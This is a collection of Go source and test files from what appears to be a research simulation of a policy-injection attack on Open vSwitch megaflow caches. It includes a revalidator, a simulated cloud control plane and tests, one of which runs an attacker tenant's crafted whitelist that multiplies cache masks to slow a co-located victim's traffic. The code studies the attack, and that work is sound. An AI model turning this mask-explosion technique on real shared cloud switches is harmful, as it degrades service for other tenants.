// one is due. Returns whether a round ran. The first Tick always runs a
// round; subsequent rounds run every Interval units.
func (r *Revalidator) Tick(now uint64) bool {
	if r.started && now < r.next {
		return false
	}
	r.started = true
	r.next = now + r.cfg.Interval
	r.runRound(now)
	return true
}

// runRound shards the attached targets across the workers, sweeps each
// shard (concurrently when there is real work to parallelise), then feeds
// the measured dump duration to the flow-limit heuristic.
func (r *Revalidator) runRound(now uint64) {
	var wall0 uint64
	if r.tel != nil {
		wall0 = telemetry.Clock()
	}
	w := r.cfg.Workers
	if cap(r.deltas) < w {
		r.deltas = make([]roundDelta, w)
		r.workers = make([]WorkerStats, w)
	}
	r.deltas = r.deltas[:w]
	for i := range r.deltas {
		r.deltas[i] = roundDelta{}
	}

	// The overload hook sees the previous round's flow count — the most
	// recent dump the actor has, one round of lag, fully deterministic —
	// and may collapse this round's idle deadline (the kill-switch).
	maxIdle := r.cfg.MaxIdle
	if r.cfg.Overload != nil {
		maxIdle = r.cfg.Overload.RoundMaxIdle(now, r.stats.Last.Flows, r.limit, maxIdle)
	}

	if len(r.targets) > 1 && w > 1 {
		var wg sync.WaitGroup
		for wi := 0; wi < w && wi < len(r.targets); wi++ {
			wg.Add(1)
			go func(wi int) {
				defer wg.Done()
				r.sweepShard(now, wi, maxIdle)
			}(wi)
		}
		wg.Wait()
	} else {
		for wi := 0; wi < w && wi < len(r.targets); wi++ {
			r.sweepShard(now, wi, maxIdle)
		}
	}

	var total roundDelta
	r.workers = r.workers[:w]
	for wi, d := range r.deltas {
		total.flows += d.flows
		total.idle += d.idle
		total.limit += d.limit
		total.policy += d.policy
		r.workers[wi] = WorkerStats{
			Targets: d.targets, Flows: d.flows,
			IdleEvicted: d.idle, LimitEvicted: d.limit, PolicyFlushed: d.policy,
		}
	}

	duration := float64(total.flows) / (r.cfg.DumpRate * float64(w))
	interval := float64(r.cfg.Interval)
	overrun := duration > 2*interval
	if !r.cfg.FixedLimit {
		prev := r.limit
		r.limit = AdaptLimit(r.limit, total.flows, duration, interval,
			r.cfg.MinFlowLimit, r.cfg.FlowLimit, r.cfg.GrowStep)
		if r.limit != prev {
			// Publish the adapted limit to the tiers immediately, under
			// their locks. The sweeps above applied the *previous* limit;
			// without this push, installs racing in before the next round
			// are admitted against the stale (higher) value and the cache
			// momentarily exceeds a freshly cut limit. The next round's
			// TrimToLimit still owns the eviction side.
			r.pushLimit()
		}
	}

	r.stats.Rounds++
	r.stats.TotalFlows += uint64(total.flows)
	r.stats.TotalIdleEvicted += uint64(total.idle)
	r.stats.TotalLimitEvicted += uint64(total.limit)
	r.stats.TotalPolicyFlushed += uint64(total.policy)
	if overrun {
		r.stats.Overruns++
	}
	r.stats.Last = RoundStats{
		At: now, Flows: total.flows, Duration: duration, Overrun: overrun,
		IdleEvicted: total.idle, LimitEvicted: total.limit, PolicyFlushed: total.policy,
		FlowLimit: r.limit,
	}
	if r.tel != nil {
		r.tel.record(&r.stats.Last, telemetry.Clock()-wall0)
	}
}

// pushLimit publishes the current flow limit to every attached limited
// tier, taking each target's lock — the between-rounds half of a limit
// adaptation (TrimToLimit stays with the next round's sweep).
func (r *Revalidator) pushLimit() {
	for i := range r.targets {
		tg := &r.targets[i]
		if tg.mu != nil {
			tg.mu.Lock()
		}
		for _, tier := range tg.t.Tiers() {
			if lt, ok := tier.(dataplane.LimitedTier); ok {
				lt.SetFlowLimit(r.limit)
			}
		}
		if tg.mu != nil {
			tg.mu.Unlock()
		}
	}
}

// sweepShard sweeps every target assigned to worker wi (round-robin by
// attach order), accumulating into the worker's delta slot.
func (r *Revalidator) sweepShard(now uint64, wi int, maxIdle uint64) {
	d := &r.deltas[wi]
	for ti := wi; ti < len(r.targets); ti += r.cfg.Workers {
		r.sweepTarget(now, &r.targets[ti], d, maxIdle)
		d.targets++
	}
}

// sweepTarget runs one target's share of the dump round: conntrack expiry,
// the idle sweep, the flow-limit staleness trim, and (when enabled) the
// policy/hard-timeout consistency pass.
func (r *Revalidator) sweepTarget(now uint64, tg *target, d *roundDelta, maxIdle uint64) {
	if tg.mu != nil {
		tg.mu.Lock()
		defer tg.mu.Unlock()
	}
	if ct, ok := tg.t.(conntracked); ok {
		if tbl := ct.Conntrack(); tbl != nil {
			tbl.Expire(now)
		}
	}
	check := r.checkFor(tg.t, now)
	for _, tier := range tg.t.Tiers() {
		lt, limited := tier.(dataplane.LimitedTier)
		if limited {
			// The flows the dump walks: the authoritative tier's residents
			// at round start, before any sweep shrinks them.
			d.flows += lt.Stats().Entries
		}
		if now >= maxIdle {
			d.idle += tier.EvictIdle(now - maxIdle)
		}
		if limited {
			lt.SetFlowLimit(r.limit)
			d.limit += lt.TrimToLimit()
		}
		if check != nil {
			if rt, ok := tier.(dataplane.RevalidatableTier); ok {
				d.policy += rt.Revalidate(check)
			}
		}
	}
}

// checkFor builds the consistency-pass predicate for a target: hard-timeout
// expiry plus (when PolicyCheck is on and the target exposes its slow
// path) re-classification of the entry's key. nil when neither applies.
func (r *Revalidator) checkFor(t Target, now uint64) func(*cache.Entry) (cache.Verdict, bool) {
	var cls *classifier.Classifier
	if r.cfg.PolicyCheck {
		if sp, ok := t.(slowpathed); ok {
			cls = sp.Classifier()
		}
	}
	hard := r.cfg.MaxHard
	if cls == nil && hard == 0 {
		return nil
	}
	return func(e *cache.Entry) (cache.Verdict, bool) {
		if hard > 0 && now >= hard && e.Added < now-hard {
			return e.Verdict, false
		}
		if cls == nil {
			return e.Verdict, true
		}
		res := cls.Lookup(e.Match.Key)
		v := cache.Verdict{Verdict: flowtable.Deny}
		if res.Rule != nil {
			v = res.Rule.Action
		}
		return v, true
	}
}

// AdaptLimit applies OVS's udpif flow-limit heuristic to one dump round
// and returns the new limit, clamped to [min, max]:
//
//   - a dump taking more than twice its interval cuts the limit by the
//     overrun factor (duration/interval);
//   - a dump taking more than 4/3 of the interval cuts it to 3/4;
//   - a dump finishing inside the interval regrows the limit by growStep,
//     but only while demand warrants (limit below flows scaled by the
//     observed dump headroom) — an empty datapath does not regrow.
//
// Exposed as a pure function so the backoff/regrow property tests can
// drive it directly.
func AdaptLimit(limit, flows int, duration, interval float64, min, max, growStep int) int {
	if interval > 0 && duration > 0 {
		switch {
		case duration > 2*interval:
			limit = int(float64(limit) * interval / duration)
		case duration > interval*4/3:
			limit = limit * 3 / 4
		case duration < interval && float64(limit) < float64(flows)*interval/duration:
			limit += growStep
		}
	}
	if limit > max {
		limit = max
	}
	if limit < min {
		limit = min
	}
	return limit
}
