package revalidator

import "policyinject/internal/telemetry"

// revTelemetry is the revalidator's instrument bundle, resolved once
// in SetTelemetry. Rounds record logical units (flows, dump duration
// in interval units, evictions) — fully deterministic — plus one wall
// nanosecond histogram via telemetry.Clock, which feeds observability
// only and never the simulation: the deterministic contract of this
// package is about decisions, and no decision reads the wall clock.
type revTelemetry struct {
	rounds   *telemetry.Counter
	overruns *telemetry.Counter
	idle     *telemetry.Counter
	limit    *telemetry.Counter
	policy   *telemetry.Counter

	flows     *telemetry.Histogram // flows dumped per round
	dumpMilli *telemetry.Histogram // logical dump duration, milli-units
	roundNs   *telemetry.Histogram // wall ns per round (observational)

	flowLimit *telemetry.Gauge
}

// SetTelemetry registers the revalidator's live instruments into reg.
// Call before the first Tick; nil disables recording.
func (r *Revalidator) SetTelemetry(reg *telemetry.Registry) {
	if reg == nil {
		r.tel = nil
		return
	}
	r.tel = &revTelemetry{
		rounds:    reg.Counter("rev_rounds_total"),
		overruns:  reg.Counter("rev_overruns_total"),
		idle:      reg.Counter("rev_evicted_idle_total"),
		limit:     reg.Counter("rev_evicted_limit_total"),
		policy:    reg.Counter("rev_policy_flushed_total"),
		flows:     reg.Histogram("rev_flows_per_round"),
		dumpMilli: reg.Histogram("rev_dump_milliunits"),
		roundNs:   reg.Histogram("rev_round_ns"),
		flowLimit: reg.Gauge("rev_flow_limit"),
	}
}

// record settles one dump round into the instruments.
func (t *revTelemetry) record(last *RoundStats, wallNs uint64) {
	t.rounds.Inc()
	if last.Overrun {
		t.overruns.Inc()
	}
	t.idle.Add(uint64(last.IdleEvicted))
	t.limit.Add(uint64(last.LimitEvicted))
	t.policy.Add(uint64(last.PolicyFlushed))
	t.flows.Record(uint64(last.Flows))
	t.dumpMilli.Record(uint64(last.Duration * 1000))
	t.roundNs.Record(wallNs)
	t.flowLimit.SetInt(last.FlowLimit)
}
