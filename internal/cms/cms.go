// Package cms simulates the cloud management system of the paper's
// architecture (Fig. 1): tenants deploy pods/VMs onto hypervisor nodes and
// control the communication permitted between them by network policies
// (Kubernetes) or security groups (OpenStack). The CMS compiles those
// user-level objects into whitelist + default-deny ACLs and installs them
// at the pods' virtual ports on the hypervisor switches — the red dots of
// Fig. 1, and the injection point of the attack.
//
// The attacker in this model is just another tenant using exactly the same
// API as everyone else; nothing it does is privileged.
package cms

import (
	"fmt"
	"net/netip"
	"sort"

	"policyinject/internal/acl"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/revalidator"
)

// Node is a hypervisor server running one virtual switch.
type Node struct {
	Name   string
	Switch *dataplane.Switch

	nextPort uint32
}

// Pod is a deployed workload attached to a hypervisor port.
type Pod struct {
	Name   string
	Tenant string
	Node   *Node
	IP     netip.Addr
	Port   uint32 // virtual port on the node's switch
	Labels Labels // Kubernetes-style labels, set via SetLabels

	policy       *Policy // applied ingress policy, nil = default allow-all
	fromSelector bool    // policy came from a selector policy

	// installed rules for the current policy, for clean replacement
	rules []*flowtable.Rule
}

// Policy is the tenant-facing network policy: an ingress whitelist for a
// set of pods. It abstracts both Kubernetes NetworkPolicy and OpenStack
// security groups — per the paper, both reduce to the same L3/L4 ACLs.
type Policy struct {
	Name string
	// Ingress is the whitelist applied at the selected pods' ports;
	// everything else is denied (default deny on selected pods).
	Ingress []acl.Entry
	// AllowSrcPortFilters marks policies produced by plugins that permit
	// filtering on the L4 *source* port (the paper names Calico). The CMS
	// rejects source-port entries otherwise, mirroring the capability
	// split the paper describes between stock Kubernetes/OpenStack and
	// Calico.
	AllowSrcPortFilters bool
	// Stateful compiles the policy as a connection-tracking security
	// group (the OpenStack flavour): whitelist entries admit and commit
	// new connections, established/reply traffic rides the conntrack
	// shortcut. Requires nodes whose switches have conntrack enabled.
	Stateful bool
	// ExplicitVerdicts honors each entry's Action field, letting a policy
	// carry deny exceptions between its allows. Off (the default), every
	// ingress entry is installed as an allow — the whitelist reading, and
	// the zero Action value would otherwise read as deny.
	ExplicitVerdicts bool
}

// Cluster is the CMS state: nodes, tenants, pods and policies.
type Cluster struct {
	nodes map[string]*Node
	pods  map[string]*Pod

	// selectorPolicies are the tenant's label-selector policies, applied
	// and reconciled by ApplySelectorPolicy / SetLabels / DeployPod.
	selectorPolicies map[string][]*selectorPolicy

	// SwitchOpts configure the switches of nodes added with AddNode (each
	// node gets its own tier instances, assembled fresh from the options).
	SwitchOpts []dataplane.Option

	rev    *revalidator.Revalidator // cluster-wide maintenance actor, if attached
	binder PortBinder               // port->tenant attribution sink, if attached

	nextIP uint32 // pod IP allocator within 172.16.0.0/12
}

// NewCluster returns an empty cluster.
func NewCluster() *Cluster {
	return &Cluster{
		nodes:            make(map[string]*Node),
		pods:             make(map[string]*Pod),
		selectorPolicies: make(map[string][]*selectorPolicy),
		nextIP:           0xac100001, // 172.16.0.1
	}
}

// AddNode provisions a hypervisor node with a fresh switch. With a
// revalidator attached the new switch immediately comes under cluster-wide
// maintenance.
func (c *Cluster) AddNode(name string) (*Node, error) {
	if _, ok := c.nodes[name]; ok {
		return nil, fmt.Errorf("cms: node %q exists", name)
	}
	n := &Node{Name: name, Switch: dataplane.New(name, c.SwitchOpts...)}
	c.nodes[name] = n
	if c.rev != nil {
		c.rev.Attach(n.Switch)
	}
	return n, nil
}

// AttachRevalidator puts every node switch — current and future — under
// rev's maintenance: the cluster-wide view of the OVS revalidator threads
// running on each hypervisor. The timeline owning the cluster drives rev
// with Tick alongside its traffic.
func (c *Cluster) AttachRevalidator(rev *revalidator.Revalidator) {
	c.rev = rev
	names := make([]string, 0, len(c.nodes))
	for name := range c.nodes {
		names = append(names, name)
	}
	sort.Strings(names) // deterministic shard assignment
	for _, name := range names {
		rev.Attach(c.nodes[name].Switch)
	}
}

// Revalidator returns the attached maintenance actor, or nil.
func (c *Cluster) Revalidator() *revalidator.Revalidator { return c.rev }

// PortBinder learns which tenant owns which virtual port — the CMS is
// the only layer that knows, and the guard's mask ledger needs it to
// attribute minted megaflow masks (guard.MaskLedger implements this).
type PortBinder interface {
	BindPort(port uint32, tenant string)
}

// AttachPortLedger registers a port->tenant attribution sink: ports of
// already-deployed pods are bound immediately, future DeployPod calls
// bind as they allocate.
func (c *Cluster) AttachPortLedger(b PortBinder) {
	c.binder = b
	names := make([]string, 0, len(c.pods))
	for name := range c.pods {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		p := c.pods[name]
		b.BindPort(p.Port, p.Tenant)
	}
}

// Node returns a node by name, or nil.
func (c *Cluster) Node(name string) *Node { return c.nodes[name] }

// DeployPod schedules a pod for a tenant onto a node, allocating an IP and
// a virtual port. Without a policy the pod starts open (allow-all), as
// both Kubernetes and OpenStack do before any policy selects the pod.
func (c *Cluster) DeployPod(tenant, name, nodeName string) (*Pod, error) {
	n := c.nodes[nodeName]
	if n == nil {
		return nil, fmt.Errorf("cms: no node %q", nodeName)
	}
	if _, ok := c.pods[name]; ok {
		return nil, fmt.Errorf("cms: pod %q exists", name)
	}
	ipBytes := [4]byte{byte(c.nextIP >> 24), byte(c.nextIP >> 16), byte(c.nextIP >> 8), byte(c.nextIP)}
	c.nextIP++
	n.nextPort++
	p := &Pod{
		Name:   name,
		Tenant: tenant,
		Node:   n,
		IP:     netip.AddrFrom4(ipBytes),
		Port:   n.nextPort,
	}
	n.Switch.AddPort(p.Port, name)
	if c.binder != nil {
		c.binder.BindPort(p.Port, tenant)
	}
	c.pods[name] = p
	// Open by default: allow any ingress at this port until a policy
	// selects the pod.
	p.rules = append(p.rules, n.Switch.InstallRule(flowtable.Rule{
		Match:    portMatch(p.Port),
		Priority: acl.EntryPriority,
		Action:   flowtable.Action{Verdict: flowtable.Allow},
		Comment:  fmt.Sprintf("pod %s default-open", name),
	}))
	if err := c.reconcile(tenant); err != nil {
		return nil, err
	}
	return p, nil
}

// Pod returns a pod by name, or nil.
func (c *Cluster) Pod(name string) *Pod { return c.pods[name] }

// Pods returns all pods sorted by name.
func (c *Cluster) Pods() []*Pod {
	out := make([]*Pod, 0, len(c.pods))
	for _, p := range c.pods {
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

func portMatch(port uint32) flow.Match {
	var m flow.Match
	m.Key.Set(flow.FieldInPort, uint64(port))
	m.Mask.SetExact(flow.FieldInPort)
	return m
}

// ApplyPolicy installs (or replaces) the ingress policy of a pod owned by
// tenant. The CMS performs the admission checks a real control plane
// would: tenancy, entry validity, and the source-port capability gate.
// Note what it cannot check — that a *valid* whitelist is also *cheap to
// evaluate*; that gap is the paper's point.
func (c *Cluster) ApplyPolicy(tenant, podName string, pol *Policy) error {
	p := c.pods[podName]
	if p == nil {
		return fmt.Errorf("cms: no pod %q", podName)
	}
	if p.Tenant != tenant {
		return fmt.Errorf("cms: tenant %q does not own pod %q", tenant, podName)
	}
	theACL := &acl.ACL{Comment: pol.Name, Stateful: pol.Stateful}
	for _, e := range pol.Ingress {
		if !e.SrcPort.Any() && !pol.AllowSrcPortFilters {
			return fmt.Errorf("cms: policy %q filters on the L4 source port; enable a plugin that supports it (e.g. Calico)", pol.Name)
		}
		if pol.ExplicitVerdicts && e.Action == flowtable.Deny {
			theACL.Deny(e) // explicit exception carved out of the whitelist
		} else {
			theACL.Allow(e) // ingress entries are whitelist entries
		}
	}
	rules, err := theACL.Compile()
	if err != nil {
		return fmt.Errorf("cms: policy %q: %w", pol.Name, err)
	}
	// Scope every rule (including the default deny) to the pod's port.
	sw := p.Node.Switch
	for _, old := range p.rules {
		sw.RemoveRule(old)
	}
	p.rules = p.rules[:0]
	for _, r := range rules {
		r.Match.Key.Set(flow.FieldInPort, uint64(p.Port))
		r.Match.Mask.SetExact(flow.FieldInPort)
		r.Comment = fmt.Sprintf("%s@%s: %s", pol.Name, podName, r.Comment)
		p.rules = append(p.rules, sw.InstallRule(r))
	}
	p.policy = pol
	p.fromSelector = false
	return nil
}

// RemovePolicy reverts a pod to its default-open state.
func (c *Cluster) RemovePolicy(tenant, podName string) error {
	p := c.pods[podName]
	if p == nil {
		return fmt.Errorf("cms: no pod %q", podName)
	}
	if p.Tenant != tenant {
		return fmt.Errorf("cms: tenant %q does not own pod %q", tenant, podName)
	}
	sw := p.Node.Switch
	for _, old := range p.rules {
		sw.RemoveRule(old)
	}
	p.rules = p.rules[:0]
	p.rules = append(p.rules, sw.InstallRule(flowtable.Rule{
		Match:    portMatch(p.Port),
		Priority: acl.EntryPriority,
		Action:   flowtable.Action{Verdict: flowtable.Allow},
		Comment:  fmt.Sprintf("pod %s default-open", podName),
	}))
	p.policy = nil
	p.fromSelector = false
	return nil
}

// Policy returns the pod's applied policy, or nil.
func (p *Pod) Policy() *Policy { return p.policy }

// RuleCount returns the number of dataplane rules currently installed for
// the pod.
func (p *Pod) RuleCount() int { return len(p.rules) }

// String renders the cluster inventory.
func (c *Cluster) String() string {
	s := fmt.Sprintf("cluster: %d nodes, %d pods\n", len(c.nodes), len(c.pods))
	for _, p := range c.Pods() {
		pol := "open"
		if p.policy != nil {
			pol = p.policy.Name
		}
		s += fmt.Sprintf("  pod %s tenant=%s node=%s ip=%s port=%d policy=%s\n",
			p.Name, p.Tenant, p.Node.Name, p.IP, p.Port, pol)
	}
	return s
}
