package cms

import (
	"net/netip"
	"testing"

	"policyinject/internal/acl"
	"policyinject/internal/flowtable"
)

func lockdown(name string) *Policy {
	return &Policy{Name: name} // empty whitelist = deny all ingress
}

func allowAllFrom(name, cidr string) *Policy {
	return &Policy{Name: name, Ingress: []acl.Entry{{Src: netip.MustParsePrefix(cidr)}}}
}

func TestSelectorMatches(t *testing.T) {
	s := Selector{"app": "web", "tier": "front"}
	if !s.Matches(Labels{"app": "web", "tier": "front", "extra": "x"}) {
		t.Error("superset labels should match")
	}
	if s.Matches(Labels{"app": "web"}) {
		t.Error("missing key matched")
	}
	if s.Matches(Labels{"app": "db", "tier": "front"}) {
		t.Error("wrong value matched")
	}
	if !(Selector{}).Matches(nil) {
		t.Error("empty selector must match everything")
	}
	if got := s.String(); got != "{app=web,tier=front}" {
		t.Errorf("String() = %q", got)
	}
	if got := (Selector{}).String(); got != "{}" {
		t.Errorf("empty String() = %q", got)
	}
}

func TestSelectorPolicyAppliesToMatchedPods(t *testing.T) {
	c := cluster(t)
	web, _ := c.DeployPod("acme", "web-1", "server-1")
	db, _ := c.DeployPod("acme", "db-1", "server-1")
	must(t, c.SetLabels("acme", "web-1", Labels{"app": "web"}))
	must(t, c.SetLabels("acme", "db-1", Labels{"app": "db"}))

	must(t, c.ApplySelectorPolicy("acme", Selector{"app": "web"}, lockdown("web-lockdown")))
	if web.Policy() == nil || web.Policy().Name != "web-lockdown" {
		t.Fatalf("web policy = %v", web.Policy())
	}
	if db.Policy() != nil {
		t.Fatalf("db policy leaked: %v", db.Policy())
	}
	// Dataplane agrees.
	sw := web.Node.Switch
	if d := sw.ProcessKey(1, key(web.Port, "10.0.0.1", 80)); d.Verdict.Verdict != flowtable.Deny {
		t.Error("selected pod not locked down")
	}
	if d := sw.ProcessKey(1, key(db.Port, "10.0.0.1", 80)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("unselected pod locked down")
	}
}

func TestLabelChangeReconciles(t *testing.T) {
	c := cluster(t)
	p, _ := c.DeployPod("acme", "worker", "server-1")
	must(t, c.ApplySelectorPolicy("acme", Selector{"role": "secure"}, lockdown("secure")))
	if p.Policy() != nil {
		t.Fatal("unlabelled pod selected")
	}
	// Label it in: policy applies.
	must(t, c.SetLabels("acme", "worker", Labels{"role": "secure"}))
	if p.Policy() == nil {
		t.Fatal("label addition did not apply policy")
	}
	// Label it out: policy reverts.
	must(t, c.SetLabels("acme", "worker", Labels{"role": "open"}))
	if p.Policy() != nil {
		t.Fatal("label removal did not revert policy")
	}
	if d := p.Node.Switch.ProcessKey(1, key(p.Port, "9.9.9.9", 1)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("pod not reopened after deselection")
	}
}

func TestNewPodPicksUpSelectorPolicy(t *testing.T) {
	c := cluster(t)
	must(t, c.ApplySelectorPolicy("acme", Selector{}, lockdown("tenant-default-deny")))
	p, err := c.DeployPod("acme", "late", "server-1")
	if err != nil {
		t.Fatal(err)
	}
	if p.Policy() == nil || p.Policy().Name != "tenant-default-deny" {
		t.Fatalf("new pod policy = %v", p.Policy())
	}
}

func TestSelectorPolicyUpdateAndDelete(t *testing.T) {
	c := cluster(t)
	p, _ := c.DeployPod("acme", "svc", "server-1")
	must(t, c.SetLabels("acme", "svc", Labels{"app": "svc"}))
	must(t, c.ApplySelectorPolicy("acme", Selector{"app": "svc"}, lockdown("v1")))
	// Update by name: same policy object name, new content.
	must(t, c.ApplySelectorPolicy("acme", Selector{"app": "svc"}, allowAllFrom("v1", "10.0.0.0/8")))
	if d := p.Node.Switch.ProcessKey(1, key(p.Port, "10.1.1.1", 80)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("policy update not applied")
	}
	must(t, c.DeleteSelectorPolicy("acme", "v1"))
	if p.Policy() != nil {
		t.Fatal("delete did not revert pod")
	}
	if err := c.DeleteSelectorPolicy("acme", "nope"); err == nil {
		t.Error("deleting unknown policy succeeded")
	}
}

func TestSelectorPoliciesAreTenantScoped(t *testing.T) {
	c := cluster(t)
	mine, _ := c.DeployPod("acme", "mine", "server-1")
	theirs, _ := c.DeployPod("mallory", "theirs", "server-1")
	must(t, c.SetLabels("acme", "mine", Labels{"app": "x"}))
	must(t, c.SetLabels("mallory", "theirs", Labels{"app": "x"}))
	must(t, c.ApplySelectorPolicy("acme", Selector{"app": "x"}, lockdown("acme-only")))
	if mine.Policy() == nil {
		t.Fatal("own pod not selected")
	}
	if theirs.Policy() != nil {
		t.Fatal("selector policy crossed tenants")
	}
	if err := c.SetLabels("acme", "theirs", Labels{}); err == nil {
		t.Error("cross-tenant SetLabels succeeded")
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
