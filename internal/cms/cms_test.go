package cms

import (
	"net/netip"
	"strings"
	"testing"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/revalidator"
)

func cluster(t *testing.T) *Cluster {
	t.Helper()
	c := NewCluster()
	if _, err := c.AddNode("server-1"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.AddNode("server-2"); err != nil {
		t.Fatal(err)
	}
	return c
}

func key(inPort uint32, src string, dport uint16) flow.Key {
	return flow.FiveTuple{
		Src:     netip.MustParseAddr(src),
		Dst:     netip.MustParseAddr("172.16.0.1"),
		Proto:   6,
		SrcPort: 40000,
		DstPort: dport,
	}.Key(inPort)
}

func TestDeployPodAllocations(t *testing.T) {
	c := cluster(t)
	p1, err := c.DeployPod("acme", "web", "server-1")
	if err != nil {
		t.Fatal(err)
	}
	p2, err := c.DeployPod("acme", "db", "server-1")
	if err != nil {
		t.Fatal(err)
	}
	if p1.IP == p2.IP || p1.Port == p2.Port {
		t.Errorf("allocation collision: %v %v", p1, p2)
	}
	if _, err := c.DeployPod("acme", "web", "server-1"); err == nil {
		t.Error("duplicate pod name accepted")
	}
	if _, err := c.DeployPod("acme", "x", "nope"); err == nil {
		t.Error("unknown node accepted")
	}
	if _, err := c.AddNode("server-1"); err == nil {
		t.Error("duplicate node accepted")
	}
}

func TestPodDefaultOpen(t *testing.T) {
	c := cluster(t)
	p, _ := c.DeployPod("acme", "web", "server-1")
	d := p.Node.Switch.ProcessKey(1, key(p.Port, "203.0.113.7", 443))
	if d.Verdict.Verdict != flowtable.Allow {
		t.Fatal("pod without policy must be open")
	}
}

func TestApplyPolicyWhitelists(t *testing.T) {
	c := cluster(t)
	p, _ := c.DeployPod("acme", "web", "server-1")
	err := c.ApplyPolicy("acme", "web", &Policy{
		Name: "web-ingress",
		Ingress: []acl.Entry{
			{Src: netip.MustParsePrefix("10.0.0.0/8"), Proto: 6, DstPort: acl.Port(443)},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	sw := p.Node.Switch
	if d := sw.ProcessKey(1, key(p.Port, "10.1.2.3", 443)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("whitelisted flow denied")
	}
	if d := sw.ProcessKey(1, key(p.Port, "10.1.2.3", 80)); d.Verdict.Verdict != flowtable.Deny {
		t.Error("non-whitelisted port allowed")
	}
	if d := sw.ProcessKey(1, key(p.Port, "203.0.113.7", 443)); d.Verdict.Verdict != flowtable.Deny {
		t.Error("non-whitelisted source allowed")
	}
	if p.Policy() == nil || p.Policy().Name != "web-ingress" {
		t.Error("policy not recorded")
	}
}

func TestPolicyIsScopedToPodPort(t *testing.T) {
	c := cluster(t)
	p1, _ := c.DeployPod("acme", "web", "server-1")
	p2, _ := c.DeployPod("other", "svc", "server-1")
	err := c.ApplyPolicy("acme", "web", &Policy{
		Name:    "lockdown",
		Ingress: nil, // empty whitelist = deny all ingress
	})
	if err != nil {
		t.Fatal(err)
	}
	sw := p1.Node.Switch
	if d := sw.ProcessKey(1, key(p1.Port, "10.0.0.1", 80)); d.Verdict.Verdict != flowtable.Deny {
		t.Error("locked-down pod accepted traffic")
	}
	// The other tenant's pod is untouched.
	if d := sw.ProcessKey(1, key(p2.Port, "10.0.0.1", 80)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("policy leaked onto another pod's port")
	}
}

func TestTenancyEnforced(t *testing.T) {
	c := cluster(t)
	c.DeployPod("acme", "web", "server-1")
	err := c.ApplyPolicy("mallory", "web", &Policy{Name: "evil"})
	if err == nil || !strings.Contains(err.Error(), "does not own") {
		t.Fatalf("cross-tenant policy accepted: %v", err)
	}
	if err := c.RemovePolicy("mallory", "web"); err == nil {
		t.Fatal("cross-tenant policy removal accepted")
	}
}

func TestSrcPortCapabilityGate(t *testing.T) {
	c := cluster(t)
	c.DeployPod("acme", "web", "server-1")
	pol := &Policy{
		Name:    "needs-calico",
		Ingress: []acl.Entry{{Proto: 6, SrcPort: acl.Port(5201)}},
	}
	if err := c.ApplyPolicy("acme", "web", pol); err == nil {
		t.Fatal("source-port filter accepted without the capability")
	}
	pol.AllowSrcPortFilters = true
	if err := c.ApplyPolicy("acme", "web", pol); err != nil {
		t.Fatalf("Calico-style policy rejected: %v", err)
	}
}

func TestRemovePolicyReopens(t *testing.T) {
	c := cluster(t)
	p, _ := c.DeployPod("acme", "web", "server-1")
	c.ApplyPolicy("acme", "web", &Policy{Name: "lockdown"})
	if err := c.RemovePolicy("acme", "web"); err != nil {
		t.Fatal(err)
	}
	if d := p.Node.Switch.ProcessKey(1, key(p.Port, "203.0.113.7", 1)); d.Verdict.Verdict != flowtable.Allow {
		t.Error("pod still locked after policy removal")
	}
	if p.Policy() != nil {
		t.Error("policy still recorded")
	}
}

func TestPolicyReplacementRemovesOldRules(t *testing.T) {
	c := cluster(t)
	p, _ := c.DeployPod("acme", "web", "server-1")
	c.ApplyPolicy("acme", "web", &Policy{
		Name:    "v1",
		Ingress: []acl.Entry{{Src: netip.MustParsePrefix("10.0.0.0/8")}},
	})
	v1Rules := p.Node.Switch.Rules()
	c.ApplyPolicy("acme", "web", &Policy{
		Name:    "v2",
		Ingress: []acl.Entry{{Src: netip.MustParsePrefix("192.168.0.0/16")}},
	})
	// 10.x must now be denied (v1 allow gone).
	if d := p.Node.Switch.ProcessKey(1, key(p.Port, "10.1.1.1", 80)); d.Verdict.Verdict != flowtable.Deny {
		t.Error("v1 rule survived policy replacement")
	}
	if got := len(p.Node.Switch.Rules()); got != len(v1Rules) {
		t.Errorf("rule count drifted across replacement: %d -> %d", len(v1Rules), got)
	}
}

// TestAttackViaCMS is the full paper scenario at the control-plane level:
// the attacker tenant injects its malicious policy through the same API as
// everyone else, then its covert stream mints the predicted masks on the
// shared hypervisor switch.
func TestAttackViaCMS(t *testing.T) {
	c := cluster(t)
	// The victim shares server-1 with the attacker.
	victim, _ := c.DeployPod("victim-corp", "backend", "server-1")
	attacker, _ := c.DeployPod("mallory", "probe", "server-1")

	atk := attack.TwoField()
	atk.DstIP = attacker.IP
	theACL, err := atk.BuildACL()
	if err != nil {
		t.Fatal(err)
	}
	// Inject via the CMS as the attacker tenant — an ordinary, valid
	// whitelist policy.
	if err := c.ApplyPolicy("mallory", "probe", &Policy{
		Name:    "innocuous-whitelist",
		Ingress: theACL.Entries,
	}); err != nil {
		t.Fatal(err)
	}

	sw := attacker.Node.Switch
	keys, _ := atk.Keys()
	for i := range keys {
		keys[i].Set(flow.FieldInPort, uint64(attacker.Port))
		sw.ProcessKey(1, keys[i])
	}
	if got := sw.Megaflow().NumMasks(); got < 512 {
		t.Fatalf("attack via CMS minted %d masks, want >= 512", got)
	}
	// And the victim's traffic on the same switch now scans them all.
	d := sw.ProcessKey(2, key(victim.Port, "198.51.100.7", 443))
	if d.MasksScanned < 512 {
		t.Errorf("victim lookup scanned %d masks", d.MasksScanned)
	}
}

func TestClusterString(t *testing.T) {
	c := cluster(t)
	c.DeployPod("acme", "web", "server-1")
	out := c.String()
	if !strings.Contains(out, "pod web") || !strings.Contains(out, "2 nodes") {
		t.Errorf("String() = %q", out)
	}
}

// TestAttachRevalidator: attaching covers the nodes that exist and the
// nodes added afterwards, so the whole cluster stays under one maintenance
// actor.
